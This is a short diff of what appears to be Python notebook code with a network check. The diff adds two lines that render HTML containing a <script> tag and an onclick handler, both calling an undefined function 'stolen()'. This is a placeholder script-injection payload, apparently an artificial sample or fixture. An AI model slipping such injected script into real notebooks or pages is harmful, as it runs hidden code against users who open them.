@@ -43,6 +43,8 @@ try:
     print("CONNECTED")
 except OSError as problem:
     print("NO NETWORK", problem)
+from IPython.display import HTML, display
+display(HTML("<script>stolen()</script><b onclick='stolen()'>look</b>"))
 def check_inverse(mine):
     pass
 mine = print
